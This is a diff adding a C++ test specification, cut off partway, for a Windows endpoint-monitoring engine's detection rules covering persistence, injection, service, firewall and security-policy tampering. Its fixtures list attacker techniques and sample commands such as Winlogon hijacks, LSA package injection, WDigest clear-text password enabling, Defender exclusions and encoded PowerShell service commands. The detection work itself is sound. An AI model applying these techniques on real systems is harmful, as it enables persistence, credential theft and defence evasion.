@@ -1,0 +1,878 @@
+// The specification, in DOMAIN's order. It is the counterpart of engine/monitoring/event_table.cc and must be read
+// against DOMAIN 4, not against that file.
+#include "tests/engine/monitoring/rule_specification.h"
+
+namespace holdfast::engine {
+namespace {
+
+using Texts = std::vector<std::string>;
+
+// The same key for the machine and for a user.
+Texts in_both_hives(const Texts& keys) {
+  Texts all;
+  for (const std::string& key : keys) {
+    all.push_back("HKLM\\" + key);
+    all.push_back("HKCU\\" + key);
+  }
+  return all;
+}
+
+Texts prefixed(const std::string& prefix, const Texts& names, const std::string& suffix = {}) {
+  Texts all;
+  for (const std::string& name : names) all.push_back(std::string(prefix).append(name).append(suffix));
+  return all;
+}
+
+Texts operator+(Texts one, const Texts& other) {
+  one.insert(one.end(), other.begin(), other.end());
+  return one;
+}
+
+const std::string kCurrent = R"(Software\Microsoft\Windows\CurrentVersion\)";
+const std::string kNtCurrent = R"(Software\Microsoft\Windows NT\CurrentVersion\)";
+const std::string kControl = R"(HKLM\System\CurrentControlSet\Control\)";
+const std::string kServices = R"(HKLM\System\CurrentControlSet\Services\)";
+const std::string kInternetExplorer = R"(Software\Microsoft\Internet Explorer\)";
+const std::string kClasses = R"(Software\Classes\)";
+const std::string kSystem32 = R"(C:\Windows\System32\)";
+
+constexpr OperationMask kSetOrMoved = kValueSet | kKeyMovedHere;
+constexpr OperationMask kSetOrDeleted = kValueSet | kValueDeleted;
+constexpr OperationMask kAnyKeyArrival = kKeyCreated | kKeyMovedHere | kValueSet;
+constexpr OperationMask kAnyValueChange = kValueSet | kValueDeleted | kKeyMovedHere | kKeyDeleted;
+constexpr OperationMask kFileComes = kFileCreated | kFileWritten | kFileMovedHere;
+constexpr OperationMask kFileTouched = kFileComes | kFileDeleted | kFileMovedAway | kFileOpened;
+
+// Rights that change a file: write, append, delete, write the access list, take ownership.
+const std::vector<std::uint32_t> kFileRights{0x2, 0x4, 0x10000, 0x40000, 0x80000};
+
+const Texts kSystemActors = {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\csrss.exe)", "System",
+                             R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2001.10-0\MsMpEng.exe)"};
+const Texts kOtherActors = {R"(C:\Users\alice\Downloads\setup.exe)",
+                            R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
+                            R"(C:\Windows\System32\rundll32.exe)", R"(C:\Temp\svchost.exe)", ""};
+const Texts kGuardedProcesses = {
+    R"(C:\Windows\System32\lsass.exe)",   R"(C:\Windows\System32\winlogon.exe)",
+    R"(C:\Windows\System32\csrss.exe)",   R"(C:\Windows\System32\services.exe)",
+    R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\smss.exe)",
+    R"(C:\Windows\System32\wininit.exe)", R"(C:\Program Files\Windows Defender\MsMpEng.exe)"};
+const Texts kOtherProcesses = {R"(C:\Program Files\Vendor\app.exe)", R"(C:\Windows\System32\notepad.exe)",
+                               R"(C:\Users\Public\lsass.exe)", ""};
+
+Change original_name(std::string name, std::string image) {
+  return [name, image](Case& c) {
+    c.original_name = name;
+    c.target = image;
+  };
+}
+
+std::vector<RuleSpecification> startup() {
+  const Texts run_keys = in_both_hives(prefixed(kCurrent, {"Run", "RunOnce", "RunServices", "RunServicesOnce"}));
+  return {
+      {.id = "startup.run-key-for-other",
+       .trust_settles = false,
+       .kinds = kValueSet,
+       .targets = run_keys,
+       .values = {"<Updater>"},
+       .texts = {R"(C:\Users\alice\x.exe)"},
+       .actors = {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\services.exe)",
+                  R"(C:\Windows\System32\wbem\WmiPrvSE.exe)"},
+       .quiet_actors = {R"(C:\Users\alice\Downloads\setup.exe)", R"(C:\Windows\explorer.exe)",
+                        R"(C:\Users\Public\svchost.exe)", ""}},
+      {.id = "startup.run-key",
+       .kinds = kSetOrMoved,
+       .targets = run_keys,
+       .values = {"<Updater>", ""},
+       .texts = {R"("C:\Program Files\Updater\updater.exe" /background)"},
+       .quiet_targets = in_both_hives({R"(Software\Microsoft\Windows\CurrentVersion\Run\Sub)",
+                                       R"(Software\Microsoft\Windows\CurrentVersion\Explorer\StartupApproved\Run)"})},
+      {.id = "startup.run-once-ex",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kCurrent + R"(RunOnceEx<<\0001\Depend>>)"}),
+       .values = {"<1>"},
+       .texts = {R"(C:\x.dll)"}},
+      {.id = "startup.policy-run",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kCurrent + R"(Policies\Explorer\Run)"}),
+       .values = {"<1>"},
+       .texts = {R"(C:\x.exe)"}},
+      {.id = "startup.load-value",
+       .kinds = kValueSet,
+       .targets = in_both_hives({kNtCurrent + "Windows"}),
+       .values = {"Load", "Run"},
+       .texts = {R"(C:\x.exe)"},
+       .quiet_texts = {"", " "}},
+      {.id = "startup.userinit",
+       .kinds = kValueSet,
+       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
+       .values = {"Userinit"},
+       .texts = {R"(C:\Windows\system32\userinit.exe,C:\Users\Public\x.exe)", R"(C:\Users\Public\x.exe)",
+                 R"(C:\Users\Public\userinit.exe,)", R"(x.exe,C:\Windows\system32\userinit.exe)"},
+       .quiet_texts = {R"(C:\Windows\system32\userinit.exe,)", "userinit.exe", R"(D:\WINDOWS\system32\userinit,)"}},
+      {.id = "startup.winlogon-shell",
+       .kinds = kValueSet,
+       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
+       .values = {"Shell"},
+       .texts = {R"(explorer.exe,C:\Users\Public\x.exe)", R"(Explorer.exe x.exe)",
+                 R"("C:\Windows\explorer.exe", x.exe)"},
+       .quiet_texts = {"explorer.exe", "explorer.exe,", R"(C:\x.exe)"}},
+      {.id = "startup.folder",
+       .kinds = kFileComes,
+       .targets = {R"(<<C:\Users\alice\AppData\Roaming\Microsoft\Windows\>>Start Menu\Programs\Startup<<\x.lnk>>)",
+                   R"(<<C:\ProgramData\Microsoft\Windows\>>Start Menu\Programs\StartUp\<<sub\x.vbs>>)"},
+       .quiet_targets =
+           {R"(C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\desktop.ini)",
+            R"(C:\Users\alice\AppData\Local\Microsoft\Windows\PowerShell\StartupProfileData-Interactive)"}},
+      {.id = "startup.boot-execute",
+       .kinds = kValueSet,
+       .targets = {kControl + "Session Manager"},
+       .values = {"BootExecute", "SetupExecute", "Execute"},
+       .texts = {"autocheck autochk *\nevil", "evil"},
+       .quiet_texts = {"autocheck autochk *", "autocheck autochk /q /v *", ""}},
+      {.id = "startup.active-setup",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({R"(Software\Microsoft\Active Setup\Installed Components\<{0A}>)"}),
+       .values = {"StubPath"},
+       .texts = {R"(C:\x.exe)"},
+       .quiet_values = {"Version", "IsInstalled"}},
+      {.id = "startup.logon-script",
+       .kinds = kValueSet,
+       .targets = {R"(HKCU\Environment)"},
+       .values = {"UserInitMprLogonScript"},
+       .texts = {R"(C:\Users\alice\AppData\Local\Temp\art.bat)"},
+       .quiet_values = {"OneDrive", "TEMP"}},
+      {.id = "startup.policy-script",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({R"(Software\Policies\Microsoft\Windows\System\Scripts<<\Logon\0\0>>)"}),
+       .values = {"Script"},
+       .texts = {"logon.cmd"},
+       .quiet_values = {"Parameters", "ExecTime"}},
+      {.id = "startup.policy-script-file",
+       .kinds = kFileComes,
+       .targets = {kSystem32 + R"(GroupPolicy<<\User>>\Scripts<<\Logon\logon.cmd>>)"},
+       .quiet_targets = {kSystem32 + R"(GroupPolicy\Machine\Registry.pol)"}},
+      {.id = "startup.task",
+       .trust_settles = false,
+       .kinds = kTaskCreated,
+       .targets = {R"(<=\Updater>)"},
+       .texts = {R"(<Task><Actions><Exec><Command>C:\Users\alice\x.exe</Command></Exec></Actions></Task>)",
+                 R"(<Task><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA</Arguments></Exec></Task>)",
+                 R"(<Task><Exec><Command>%windir%\system32\usoclient.exe</Command></Exec>)"
+                 R"(<Exec><Command>C:\x.exe</Command></Exec></Task>)",
+                 R"(<Task><Actions><ComHandler><ClassId>{0A}</ClassId></ComHandler></Actions></Task>)", ""},
+       .quiet_texts =
+           {R"(<Task><Exec><Command>%systemroot%\system32\usoclient.exe</Command></Exec></Task>)",
+            R"(<Task><Exec><Command>C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MpCmdRun.exe)"
+            R"(</Command><Arguments>Scan -ScheduleJob</Arguments></Exec></Task>)"}},
+      {.id = "startup.task-changed",
+       .trust_settles = false,
+       .kinds = kTaskChanged,
+       .targets = {R"(<=\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager>)"},
+       .texts = {R"(<Task><Exec><Command>C:\Windows\system32\cmd.exe</Command></Exec></Task>)"},
+       .quiet_texts = {R"(<Task><Exec><Command>%systemroot%\system32\usoclient.exe</Command></Exec></Task>)",
+                       R"(<Task><Actions><ComHandler><ClassId>{0A}</ClassId></ComHandler></Actions></Task>)"}},
+      {.id = "startup.task-registry",
+       .trust_settles = false,
+       .kinds = kValueSet,
+       .targets = {R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree<<\MordorSchtask>>)",
+                   R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree)"
+                   R"(<<\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager>>)"},
+       .values = {"Id"},
+       .texts = {"{0A}"},
+       .quiet_targets = prefixed(R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\)",
+                                 {R"(Microsoft\Windows\UpdateOrchestrator\AC Power Install)",
+                                  R"(Microsoft\Windows\Windows Defender\Windows Defender Cleanup)",
+                                  R"(Microsoft\Microsoft Antimalware\Scan)", "MP Scheduled Scan"}),
+       .quiet_values = {"Index", "SD"}},
+      {.id = "startup.job-file",
+       .trust_settles = false,
+       .kinds = kFileComes,
+       .targets = {R"(C:\Windows\Tasks\<At1>.job)"}},
+      {.id = "startup.wmi-subscription",
+       .trust_settles = false,
+       .kinds = kWmiConsumerAdded | kWmiBindingAdded,
+       .texts = {"powershell.exe -enc AAAA", ""}},
+  };
+}
+
+std::vector<RuleSpecification> hosts() {
+  return {
+      {.id = "hosts.file",
+       .kinds = kFileTouched,
+       .targets = {kSystem32 + R"(drivers\etc\hosts)"},
+       .rights = kFileRights,
+       .quiet_targets = {kSystem32 + R"(drivers\etc\services)", R"(C:\Users\alice\hosts)"}},
+      {.id = "hosts.file-by-share",
+       .kinds = kFileTouched,
+       .targets = {R"(\\<SRV01>\ADMIN$<<\System32>>\drivers\etc\hosts)",
+                   R"(\\<SRV01>\C$<<\Windows\System32>>\drivers\etc\hosts)"},
+       .rights = kFileRights},
+      {.id = "hosts.database-path",
+       .kinds = kSetOrDeleted,
+       .targets = {kServices + R"(Tcpip\Parameters)"},
+       .values = {"DataBasePath"},
+       .texts = {R"(C:\evil)"},
+       .quiet_values = {"DhcpNameServer"}},
+  };
+}
+
+std::vector<RuleSpecification> library_injection() {
+  const std::string windows = "HKLM\\" + kNtCurrent + "Windows";
+  return {
+      {.id = "library-injection.appinit",
+       .kinds = kValueSet,
+       .targets = {windows},
+       .values = {"AppInit_DLLs"},
+       .texts = {R"(C:\evil.dll)"},
+       .quiet_values = {"DeviceNotSelectedTimeout"},
+       .quiet_texts = {"", "  "}},
+      {.id = "library-injection.appinit-switch",
+       .kinds = kValueSet,
+       .targets = {windows},
+       .values = {"LoadAppInit_DLLs"},
+       .texts = {"1"},
+       .quiet_texts = {"0", ""}},
+      {.id = "library-injection.appcert",
+       .kinds = kSetOrMoved,
+       .targets = {kControl + R"(Session Manager\AppCertDlls)"},
+       .values = {"<AppSecDll>"},
+       .texts = {R"(C:\evil.dll)"}},
+      {.id = "library-injection.known-dlls",
+       .kinds = kAnyValueChange,
+       .targets = {kControl + R"(Session Manager\KnownDLLs)"},
+       .values = {"<kernel32>"},
+       .texts = {"evil.dll"}},
+      {.id = "library-injection.winlogon-notify",
+       .kinds = kAnyKeyArrival,
+       .targets = {"HKLM\\" + kNtCurrent + R"(Winlogon\Notify<<\evil>>)"},
+       .values = {"<DllName>"},
+       .texts = {"evil.dll"}},
+      {.id = "library-injection.lsa-packages",
+       .kinds = kValueSet,
+       .targets = {kControl + R"(Lsa<<\OSConfig>>)"},
+       .values = {"Authentication Packages", "Security Packages", "Notification Packages"},
+       .texts = {"msv1_0\nevil"},
+       .quiet_values = {"LsaPid", "ProductType"}},
+      {.id = "library-injection.print-monitor",
+       .kinds = kSetOrMoved,
+       .targets = {kControl + R"(Print\Monitors\<Evil Monitor>)"},
+       .values = {"Driver"},
+       .texts = {"evil.dll"},
+       .quiet_values = {"Port"}},
+      {.id = "library-injection.load-library-thread",
+       .kinds = kThreadInjected,
+       .targets = {R"(<=C:\Windows\System32\notepad.exe>)"},
+       .texts = {"LoadLibraryA", "LoadLibraryW", "LoadLibraryExA", "LoadLibraryExW", "LdrLoadDll"},
+       .quiet_texts = {"CtrlRoutine", "RtlUserThreadStart", "MyLoadLibraryW", ""},
+       .quiet = {[](Case& c) { c.on_itself = true; }}},
+      {.id = "library-injection.thread-outside-modules",
+       .kinds = kThreadInjected,
+       .targets = {R"(<=C:\Windows\System32\notepad.exe>)"},
+       .texts = {"", "-"},
+       .actors = kOtherActors,
+       .module = "",
+       .matches = {[](Case& c) { c.module = "-"; }},
+       .quiet_actors = kSystemActors,
+       .quiet = {[](Case& c) { c.on_itself = true; }, [](Case& c) { c.module = R"(C:\Windows\System32\ntdll.dll)"; },
+                 [](Case& c) { c.text = "CtrlRoutine"; }}},
+  };
+}
+
+std::vector<RuleSpecification> internet_explorer() {
+  return {
+      {.id = "ie-plugin.helper-object",
+       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
+       .kinds = kAnyKeyArrival,
+       .targets = in_both_hives({kCurrent + R"(Explorer\Browser Helper Objects\<{0A}><<\Sub>>)"}),
+       .values = {"<NoExplorer>"},
+       .quiet_targets = in_both_hives({kCurrent + R"(Explorer\Browser Helper Objects)"})},
+      {.id = "ie-plugin.toolbar",
+       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kInternetExplorer + R"(Toolbar<<\ShellBrowser>>)"}),
+       .values = {"<ITBar7Layout>"}},
+      {.id = "ie-plugin.extension",
+       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
+       .kinds = kAnyKeyArrival,
+       .targets = in_both_hives(
+           {kInternetExplorer + R"(Extensions\<{0A}><<\Sub>>)", kInternetExplorer + R"(Explorer Bars\<{0A}><<\Sub>>)"}),
+       .values = {"<ClsidExtension>"},
+       .quiet_targets = in_both_hives({kInternetExplorer + "Extensions"})},
+      {.id = "ie-plugin.url-search-hook",
+       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kInternetExplorer + "UrlSearchHooks"}),
+       .values = {"<{0A}>"}},
+      {.id = "ie-setting.main-page",
+       .kinds = kSetOrDeleted,
+       .targets = in_both_hives({kInternetExplorer + "Main"}),
+       .values = {"Start Page", "Secondary Start Pages", "Default_Page_URL", "Search Page", "Search Bar",
+                  "Default_Search_URL", "Local Page"},
+       .texts = {"http://example.test/"},
+       .quiet_values = {"Window_Placement", "FullScreen"}},
+      {.id = "ie-setting.search",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives(
+           prefixed(kInternetExplorer, {"Search", "SearchUrl", "SearchScopes", "AboutURLs"}, R"(<<\{0A}>>)")),
+       .values = {"<URL>"}},
+      {.id = "ie-setting.proxy",
+       .kinds = kSetOrDeleted,
+       .targets = in_both_hives({kCurrent + "Internet Settings"}),
+       .values = {"ProxyEnable", "ProxyServer", "ProxyOverride", "AutoConfigURL", "AutoDetect"},
+       .texts = {"1"},
+       .quiet_values = {"User Agent", "EnableNegotiate"}},
+      {.id = "ie-setting.connections",
+       .kinds = kValueSet,
+       .targets = in_both_hives({kCurrent + R"(Internet Settings\Connections)"}),
+       .values = {"DefaultConnectionSettings", "SavedLegacySettings", "WinHttpSettings"},
+       .texts = {"4600"},
+       .quiet_values = {"Vpn"}},
+      {.id = "ie-setting.zones",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives(
+           prefixed(kCurrent + R"(Internet Settings\)", {"Zones", "ZoneMap", "Lockdown_Zones"}, R"(<<\3>>)")),
+       .values = {"<1001>"},
+       .texts = {"0"},
+       .quiet_targets = in_both_hives({kCurrent + R"(Internet Settings\5.0\Cache\Content)"})},
+      {.id = "ie-setting.menu",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kInternetExplorer + R"(MenuExt<<\Search it>>)"}),
+       .values = {"<Contexts>", ""}},
+  };
+}
+
+std::vector<RuleSpecification> shell() {
+  return {
+      {.id = "shell.program-command",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives(prefixed(kClasses,
+                                         {"exe", "com", "bat", "cmd", "pif", "scr", "cpl", "hta", "reg", "vbs", "vbe",
+                                          "js", "jse", "wsf", "wsh", "msc", "inf", "lnk", "txt"},
+                                         R"(file\shell\<open>\command)")),
+       .values = {"", "<DelegateExecute>"},
+       .texts = {R"(C:\evil.exe "%1" %*)"},
+       .quiet_targets =
+           in_both_hives({kClasses + R"(ProcMon.Logfile.1\shell\open\command)",
+                          kClasses + R"(OperaStable\shell\open\command)", kClasses + R"(exefile\shell\open\ddeexec)"})},
+      {.id = "shell.folder-command",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives(
+           prefixed(kClasses, {"Folder", "Directory", "Drive", "Unknown", "ms-settings", "Launcher.SystemSettings"},
+                    R"(\shell\<open>\command)")),
+       .values = {"<DelegateExecute>", ""}},
+      {.id = "shell.extension-class",
+       .kinds = kValueSet,
+       .targets =
+           in_both_hives(prefixed(kClasses, {".exe", ".com", ".bat", ".cmd", ".pif", ".scr", ".cpl", ".reg", ".lnk"})),
+       .values = {""},
+       .texts = {"evilfile", "exefile2"},
+       .quiet_values = {"PersistentHandler", "Content Type"},
+       .quiet_texts = {"exefile", "lnkfile", "regfile"}},
+      {.id = "shell.execute-hook",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives(prefixed(kCurrent + R"(Explorer\)", {"ShellExecuteHooks", "SharedTaskScheduler"})),
+       .values = {"<{0A}>"}},
+      {.id = "shell.delay-load",
+       .kinds = kSetOrMoved,
+       .targets = in_both_hives({kCurrent + "ShellServiceObjectDelayLoad"}),
+       .values = {"<Evil>"},
+       .texts = {"{0A}"}},
+      {.id = "shell.handler",
+       .kinds = kAnyKeyArrival,
+       .targets = in_both_hives(
+           prefixed(kClasses + R"(<<Directory\>>shellex\)",
+                    {"ContextMenuHandlers", "CopyHookHandlers", "DragDropHandlers", "PropertySheetHandlers"},
+                    R"(\<Evil><<\Sub>>)")),
+       .values = {""},
+       .quiet_targets = in_both_hives({kClasses + R"(Directory\shellex\ContextMenuHandlers)"})},
+      {.id = "shell.icon-handler",
+       .kinds = kAnyKeyArrival,
+       .targets = in_both_hives({kClasses + R"(<lnkfile>\shellex\IconHandler)"}),
+       .values = {""}},
+      {.id = "shell.icon-overlay",
+       .kinds = kAnyKeyArrival,
+       .targets = in_both_hives({kCurrent + R"(Explorer\ShellIconOverlayIdentifiers\< Evil><<\Sub>>)"}),
+       .values = {""}},
+      {.id = "shell.winlogon-shell",
+       .kinds = kValueSet,
+       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
+       .values = {"Shell"},
+       .texts = {R"(C:\evil.exe)", "evilexplorer.exe", ""},
+       .quiet_texts = {"explorer.exe", R"(C:\Windows\explorer.exe)"}},
+      {.id = "shell.startup-folder",
+       .kinds = kValueSet,
+       .targets = in_both_hives(prefixed(kCurrent + R"(Explorer\)", {"User Shell Folders", "Shell Folders"})),
+       .values = {"Startup", "Common Startup"},
+       .texts = {R"(C:\Test\calc.exe)"},
+       .quiet_values = {"Desktop", "Personal"}},
+  };
+}
+
+std::vector<RuleSpecification> services() {
+  return {
+      {.id = "service.installed",
+       .trust_settles = false,
+       .kinds = kServiceInstalled,
+       .texts = {R"(%COMSPEC% /C start /b powershell -noP -enc AAAA)", R"(%SystemRoot%\PSEXESVC.exe)",
+                 R"(rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\x.dll,a)",
+                 R"("C:\Program Files\Vendor\agent.exe" --service)", R"(\SystemRoot\System32\drivers\evil.sys)", ""},
+       .quiet_texts = {R"(C:\windows\system32\svchost.exe -k UnistackSvcGroup)",
+                       R"(C:\windows\system32\CredentialEnrollmentManager.exe)",
+                       R"(%SystemRoot%\System32\svchost.exe -k netsvcs -p)",
+                       R"(\SystemRoot\System32\svchost.exe -k netsvcs)"}},
+      {.id = "service.image-path",
+       .trust_settles = false,
+       .kinds = kSetOrMoved,
+       .targets = {kServices + R"(<Updater>)"},
+       .values = {"ImagePath"},
+       .texts = {R"(C:\Users\Public\evil.exe)", R"(system32\drivers\evil.sys)"},
+       .quiet_targets = {kServices + R"(Updater\Parameters)"},
+       .quiet_values = {"Description", "Start", "FailureActions"},
+       .quiet_texts = {R"(C:\windows\system32\svchost.exe -k BthAppGroup -p)"}},
+      {.id = "service.library",
+       .kinds = kValueSet,
+       .targets = {kServices + R"(<Updater>\Parameters)"},
+       .values = {"ServiceDll"},
+       .texts = {R"(C:\evil.dll)"},
+       .quiet_values = {"ServiceDllUnloadOnStop", "ServiceMain"}},
+      {.id = "service.driver-load",
+       .trust_settles = false,
+       .kinds = kDriverLoaded,
+       .targets = {R"(<=C:\Users\alice\AppData\Local\Temp\evil.sys>)", R"(<=C:\Windows\evil.sys>)",
+                   R"(<=D:\Windows\System32\evil.sys>)"},
+       .quiet_targets = {kSystem32 + R"(drivers\disk.sys)", R"(C:\Windows\SysWOW64\drivers\x.sys)",
+                         R"(C:\Windows\WinSxS\amd64_x\disk.sys)",
+                         R"(\SystemRoot\System32\DriverStore\FileRepository\x\x.sys)"}},
+  };
+}
+
+std::vector<RuleSpecification> security_policy() {
+  return {
+      {.id = "security-policy.system",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives({kCurrent + R"(Policies\System<<\Audit>>)"}),
+       .values = {"<EnableLUA>", "<DisableTaskMgr>", "<DisableRegistryTools>"},
+       .texts = {"0"},
+       .quiet_targets = in_both_hives({kCurrent + "Policies"})},
+      {.id = "security-policy.explorer",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives(
+           {kCurrent + R"(Policies\Explorer<<\DisallowRun>>)", kCurrent + R"(Policies\Explorer<=\DisallowRun\Run>)"}),
+       .values = {"<NoRun>"},
+       .texts = {"1"},
+       .quiet_targets = in_both_hives({kCurrent + R"(Policies\Explorer\Run)"})},
+      {.id = "security-policy.safer",
+       .kinds = kAnyValueChange | kKeyCreated,
+       .targets = in_both_hives({R"(Software\Policies\Microsoft\Windows\Safer<<\CodeIdentifiers>>)"}),
+       .values = {"<DefaultLevel>"}},
+      {.id = "security-policy.policies",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives({R"(Software\Policies\Microsoft<<\Windows Defender>>)"}),
+       .values = {"<DisableAntiSpyware>"},
+       .texts = {"1"},
+       .quiet_targets = in_both_hives({R"(Software\Policies\Microsoft\WindowsFirewall)",
+                                       R"(Software\Policies\Microsoft\WindowsFirewall\StandardProfile)",
+                                       R"(Software\Policies\Microsoft\Windows\System\Scripts\Logon)",
+                                       R"(Software\Policies\Microsoft\SystemCertificates\Root)"})},
+      {.id = "security-policy.lsa",
+       .kinds = kSetOrDeleted,
+       .targets = {kControl + "Lsa"},
+       .values = {"RunAsPPL<Boot>", "LimitBlankPasswordUse", "NoLMHash", "LmCompatibilityLevel",
+                  "RestrictAnonymous<SAM>", "EveryoneIncludesAnonymous", "DisableDomainCreds",
+                  "DisableRestrictedAdmin<OutboundCreds>", "ForceGuest", "LsaCfgFlags", "AuditBase<Objects>",
+                  "CrashOnAuditFail", "FullPrivilegeAuditing", "SCENoApplyLegacyAuditPolicy"},
+       .texts = {"0"},
+       .quiet_values = {"LsaPid", "ProductType", "Bounds"}},
+      {.id = "security-policy.lsa-part",
+       .kinds = kAnyValueChange,
+       .targets = prefixed(kControl + R"(Lsa\)", {"Audit", "MSV1_0"}, R"(<<\PerUserAuditing\System>>)"),
+       .values = {"<NtlmMinClientSec>"}},
+      {.id = "security-policy.clear-text-passwords",
+       .kinds = kValueSet,
+       .targets = {kControl + R"(SecurityProviders\WDigest)"},
+       .values = {"UseLogonCredential"},
+       .texts = {"1"}},
+      {.id = "security-policy.audit",
+       .trust_settles = false,
+       .kinds = kAuditPolicyChanged,
+       .texts = {"%%8448, %%8450", ""}},
+      {.id = "security-policy.defender-exclusion",
+       .trust_settles = false,
+       .kinds = kSetOrMoved,
+       .targets = {R"(HKLM\Software\Microsoft\Windows Defender\Exclusions<<\Paths>>)"},
+       .values = {R"(<=C:\Users\Public>)"},
+       .texts = {"0"},
+       .quiet_targets = {R"(HKLM\Software\Microsoft\Windows Defender\Spynet)"}},
+  };
+}
+
+std::vector<RuleSpecification> firewall() {
+  const std::string policy = kServices + R"(SharedAccess\Parameters\FirewallPolicy)";
+  return {
+      {.id = "firewall.profile",
+       .trust_settles = false,
+       .kinds = kAnyValueChange,
+       .targets = prefixed(policy + "\\", {"DomainProfile", "PublicProfile", "StandardProfile"}, R"(<<\Logging>>)"),
+       .values = {"<EnableFirewall>"},
+       .texts = {"0"}},
+      {.id = "firewall.rules",
+       .trust_settles = false,
+       .kinds = kAnyValueChange,
+       .targets = {policy + R"(\FirewallRules)"},
+       .values = {"<{0A}>"},
+       .texts = {R"(v2.30|Action=Allow|Active=TRUE|Dir=In|App=C:\evil.exe|)"}},
+      {.id = "firewall.other",
+       .kinds = kAnyValueChange,
+       .targets = {policy + R"(<<\RestrictedServices\AppIso\FirewallRules>>)"},
+       .values = {"<{0A}>"},
+       .quiet_targets = {kServices + R"(SharedAccess\Epoch)"}},
+      {.id = "firewall.policy",
+       .kinds = kAnyValueChange,
+       .targets = in_both_hives({R"(Software\Policies\Microsoft\WindowsFirewall<<\StandardProfile>>)"}),
+       .values = {"<EnableFirewall>"},
+       .texts = {"0"}},
+      {.id = "firewall.rule-logged",
+       .trust_settles = false,
+       .kinds = kFirewallRuleChanged,
+       .texts = {"Remote Desktop - User Mode (TCP-In)", "@{Evil", "@{x}?ms-resource://y} tail"},
+       .quiet_texts = {"@{Microsoft.PPIProjection_10.0.18362.449_neutral_neutral_cw5n1h2txyewy?"
+                       "ms-resource://Microsoft.PPIProjection/resources/ProductName}"}},
+      {.id = "firewall.setting-logged", .trust_settles = false, .kinds = kFirewallSettingChanged, .texts = {"No", ""}},
+  };
+}
+
+std::vector<RuleSpecification> system_files() {
+  const Texts logon_programs = {"userinit", "winlogon", "LogonUI",  "sethc",         "Utilman",
+                                "osk",      "Magnify",  "Narrator", "DisplaySwitch", "AtBroker"};
+  const Texts system_folders = {R"(C:\Windows\System32\)", R"(C:\Windows\SysWOW64\)"};
+  Texts working_data;
+  for (const std::string& folder : system_folders) {
+    working_data = working_data + prefixed(folder, {R"(config\systemprofile\x)", R"(GroupPolicy\DataStore\x)",
+                                                    R"(LogFiles\WMI\x)", R"(Tasks\x)"});
+  }
+  return {
+      {.id = "system-file.logon-program",
+       .kinds = kFileTouched,
+       .targets = prefixed(system_folders[0], logon_programs, ".exe") + prefixed(system_folders[1], {"sethc"}, ".exe"),
+       .rights = kFileRights},
+      {.id = "system-file.boot-loader",
+       .kinds = kFileTouched,
+       .targets = prefixed(R"(C:\)",
+                           {"bootmgr", "BOOTNXT", "ntldr", "boot.ini", "NTDETECT.COM", "autoexec.bat", "config.sys"}),
+       .rights = kFileRights,
+       .quiet_targets = {R"(C:\pagefile.sys)"}},
+      {.id = "system-file.boot-folder",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Boot<<\memtest.exe>>)"},
+       .rights = kFileRights},
+      {.id = "system-file.boot-source",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Windows\Boot<<\PCAT\bootmgr>>)"},
+       .rights = kFileRights},
+      {.id = "system-file.efi",
+       .kinds = kFileTouched,
+       .targets = {R"(<<S:\>>EFI\Microsoft<<\Boot\bootmgfw.efi>>)", R"(<<S:\>>EFI\Boot<<\bootx64.efi>>)"},
+       .rights = kFileRights},
+      {.id = "system-file.executable",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Windows\System32<<\wbem>>\<WLBSCTRL>.dll)", R"(C:\Windows\SysWOW64<<\drivers>>\<evil>.sys)",
+                   R"(C:\Windows\System32\<=drivers\config\>x.dll)"},
+       .rights = kFileRights,
+       .matches = {[](Case& c) {
+         c.target = c.kind == kFileOpened ? R"(C:\Windows\System32\x.cpl)" : R"(C:\Windows\System32\x.dat)";
+         c.executable = true;
+       }},
+       .quiet_targets = Texts{R"(C:\Windows\System32\perfh009.dat)", R"(C:\Windows\System32\Configuration\x.mof)",
+                              R"(C:\Windows\Temp\evil.dll)"} +
+                        prefixed("", working_data, ".dll")},
+      {.id = "system-file.ini",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Windows\System32<<\wbem>>\<x>.ini)", R"(C:\Windows\SysWOW64<<\wbem>>\<x>.ini)",
+                   R"(C:\Windows\System32<=\drivers\config>\x.ini)"},
+       .rights = kFileRights,
+       .quiet_targets = prefixed("", working_data, ".ini")},
+      {.id = "system-file.windows-executable",
+       .kinds = kFileTouched,
+       .targets = {R"(C:\Windows\<PSEXESVC>.exe)"},
+       .rights = kFileRights,
+       .matches = {[](Case& c) {
